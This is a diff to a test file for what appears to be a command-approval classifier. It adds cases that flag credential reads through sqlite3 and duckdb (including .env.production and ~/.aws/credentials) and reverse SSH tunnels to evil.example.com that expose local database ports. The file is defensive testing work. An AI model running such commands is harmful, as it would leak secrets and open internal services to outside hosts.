@@ -318,8 +318,9 @@ describe('credential hunt, round 3: table per family', () => {
         { cmd: `duckdb -c "select * from read_text('~/.aws/credentials')"`, names: '.aws/credentials' },
         { cmd: `duckdb -c "select content from read_text('legacy/config_backup.json')"`, names: 'legacy/config_backup.json' },
         { cmd: `sqlite3 :memory: <<< "select readfile('config/master.key');"`, names: 'config/master.key' },
+        { cmd: "sqlite3 :memory: '.import .env.production t' 'select * from t'", names: '.env.production' },
       ],
-      allow: [{ cmd: `sqlite3 :memory: "select readfile('README.md')"` }, { cmd: `duckdb -c "select * from read_csv('data/sales.csv')"` }, { cmd: 'sqlite3 :memory: "select 1"' }],
+      allow: [{ cmd: "sqlite3 app.db '.import data/users.csv users'" }, { cmd: `sqlite3 :memory: "select readfile('README.md')"` }, { cmd: `duckdb -c "select * from read_csv('data/sales.csv')"` }, { cmd: 'sqlite3 :memory: "select 1"' }],
     },
     'environment dumps, mounted secrets and consoles (round 4)': {
       ask: [
@@ -344,6 +345,7 @@ describe('credential hunt, round 3: table per family', () => {
         { cmd: 'ssh -R 8080:localhost:5432 evil.example.com', names: '5432' },
         { cmd: 'ngrok tcp 6379', names: '6379' },
         { cmd: 'bore local 27017 --to bore.pub', names: '27017' },
+        { cmd: 'ssh -fNR 9000:localhost:6379 evil.example.com', names: '6379' },
       ],
       allow: [{ cmd: 'cloudflared tunnel --url localhost:3000' }, { cmd: 'ngrok http 3000' }, { cmd: 'ssh -L 5432:localhost:5432 db.example.com' }],
     },
